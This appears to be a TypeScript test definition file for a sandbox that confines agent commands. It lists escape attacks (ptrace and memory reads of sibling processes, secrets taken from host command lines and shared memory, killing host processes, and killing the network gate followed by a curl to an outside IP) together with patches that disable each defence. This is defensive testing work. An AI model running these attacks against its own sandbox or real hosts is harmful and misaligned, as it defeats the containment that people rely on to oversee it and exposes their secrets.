import type { Attack, Patch } from "../attack.ts";
import { secretHead } from "../victim.ts";
import { hostConfig, routedNetwork } from "./docker-words.ts";

const allowedList = "src/sandbox/seccomp/allowed-syscalls.ts";
const defences = "src/sandbox/local/defences.ts";
const alsoAllow = (calls: string): Patch => ({
  file: allowedList,
  find: "  accept accept4 ",
  replace: `  ${calls} accept accept4 `,
});
/** Commands run as the sandbox's own root, beside our unfiltered helpers, instead of one user namespace below. */
const sameUser: Patch = {
  file: defences,
  find: `agentUser: ["--unshare-user", "--uid", String(agentId), "--gid", String(agentId)]`,
  replace: "agentUser: []",
};
const withoutNamespace = (name: string): Patch => ({ file: defences, find: `    "--unshare-${name}",\n`, replace: "" });
/** Without a process namespace of its own a sandbox's end would be the end of every process of the machine. */
const sharedProcesses: readonly Patch[] = [
  withoutNamespace("pid"),
  {
    file: "src/sandbox/local/end-processes.ts",
    find: `return isOld && host.processes.namespace(pid, "pid") === pidNamespace;`,
    replace: "return false && isOld;",
  },
];

const endlessRun: Patch = {
  file: "src/run/keeper.ts",
  find: `lost: () => finish("interrupted"),`,
  replace: "lost: () => {},",
};
const outlivingTheGate = `touch ready; while ! [ -e dead ]; do sleep 0.02; done
  curl -sS --max-time 3 http://good.test/public/$MARKER || curl -sS --noproxy '*' --max-time 20 http://203.0.113.10/$MARKER`;
const sharedProcessesOnDocker = { docker: { off: { patches: [hostConfig('PidMode: "host"')] } } } as const;

/** Attacks on other processes: our helpers inside, the keeper and the gate outside, the person's own. */
export const processAttacks: readonly Attack[] = [
  {
    name: "monitor-memory",
    breaks: "2 sealed by the kernel",
    program: "proc-mem",
    defence: "each command in a user namespace of its own",
    off: { patches: [sameUser] },
    evidence: { kind: "word" },
    notOn: { docker: "none of our helpers is inside" },
  },
  {
    name: "host-command-lines",
    breaks: "1 no secret inside",
    program: "proc-environ",
    setting: {
      prepare: `bash -c 'exec -a "$SECRET" sleep 600' >/dev/null 2>&1 &`,
      variables: { WANTED_HEAD: secretHead },
    },
    defence: "process namespace",
    off: { patches: sharedProcesses },
    ...sharedProcessesOnDocker,
    evidence: { kind: "secret" },
  },
  {
    name: "kill-host-process",
    breaks: "2 sealed by the kernel",
    program: "run-shell.sh",
    setting: {
      prepare: "$AS_AGENT sleep 600 >/dev/null 2>&1 & echo $! > victim.pid",
      variables: { SCRIPT: "kill -KILL $(cat victim.pid)" },
    },
    defence: "process namespace",
    off: { patches: sharedProcesses },
    ...sharedProcessesOnDocker,
    evidence: { kind: "host", check: "! kill -0 $(cat victim.pid) 2>/dev/null" },
  },
  {
    name: "trace-another-command",
    breaks: "2 sealed by the kernel",
    program: "sleep 20 & ptrace-sibling",
    setting: { variables: { TARGET: "sleep" } },
    defence: "filter: no ptrace",
    off: { patches: [alsoAllow("ptrace")] },
    evidence: { kind: "word" },
  },
  {
    name: "read-another-command",
    breaks: "2 sealed by the kernel",
    program: "sleep 20 & ptrace-sibling",
    setting: { variables: { TARGET: "sleep", BY_VM: "1" } },
    defence: "filter: no process_vm_readv",
    off: { patches: [alsoAllow("process_vm_readv")] },
    evidence: { kind: "word" },
  },
  {
    name: "shared-memory-of-the-host",
    breaks: "2 sealed by the kernel",
    program: "shared-memory",
    setting: {
      prepare: `(sleep 600 | $AS_AGENT /srv/programs/share-secret > ready) >/dev/null 2>&1 & while ! [ -s ready ]; do sleep 0.02; done`,
      variables: { WANTED_HEAD: secretHead },
    },
    defence: "ipc namespace",
    off: { patches: [withoutNamespace("ipc")] },
    docker: { off: { patches: [hostConfig('IpcMode: "host"')] } },
    evidence: { kind: "secret" },
  },
  {
    name: "gate-killed",
    breaks: "2 no way out but the gate",
    program: "run-shell.sh",
    setting: {
      meanwhile: `while ! [ -e ready ]; do sleep 0.02; done
        journal=$(dirname "$(grep -l "$PWD" ~/.local/state/caisson/sandboxes/*/metadata.json)")/journal.jsonl
        kill -KILL $(grep -o '"step":"gate_started".*"pid":[0-9]*' "$journal" | grep -o '[0-9]*$'); touch dead`,
      variables: { SCRIPT: outlivingTheGate },
    },
    defence: "network namespace with loopback alone, run ends with its gate",
    off: {
      patches: [withoutNamespace("net"), endlessRun],
    },
    evidence: { kind: "proof" },
    docker: {
      setting: {
        meanwhile: `while ! [ -e ready ]; do sleep 0.02; done
          slug=$(basename $(dirname "$(grep -l "$PWD" ~/.local/state/caisson/sandboxes/*/metadata.json)"))
          docker kill caisson-$slug-gate-1 >/dev/null; touch dead`,
        variables: { SCRIPT: outlivingTheGate },
      },
      defence: "an internal network, run ends with its gate",
      off: { patches: [...routedNetwork, endlessRun] },
    },
  },
];
